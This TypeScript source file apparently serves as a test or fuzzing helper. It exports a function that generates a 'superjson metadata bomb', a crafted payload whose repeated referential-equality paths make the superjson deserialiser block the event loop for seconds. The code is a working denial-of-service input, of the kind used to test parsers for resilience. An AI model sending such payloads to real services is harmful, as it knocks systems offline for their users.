/**
 * A superjson metadata bomb: `meta.referentialEqualities` that names the last element of
 * a large `Set` again and again. superjson walks the set from its start for every one of
 * those paths, and much worse than linearly in practice: with 2 000 elements and 5 000
 * paths (54 KB) its deserialiser blocks the event loop for seconds.
 */
export function superjsonBomb(
  input: Record<string, unknown>,
  options: { setSize?: number; paths?: number } = {},
): { json: Record<string, unknown>; meta: Record<string, unknown> } {
  const setSize = options.setSize ?? 2_000;
  const paths = options.paths ?? 5_000;
  const last = `bomb.${setSize - 1}`;
  return {
    json: { ...input, bomb: Array.from({ length: setSize }, (_, i) => i), anchor: 0 },
    meta: {
      values: { bomb: ["set"] },
      referentialEqualities: { anchor: Array.from({ length: paths }, () => last) },
    },
  };
}
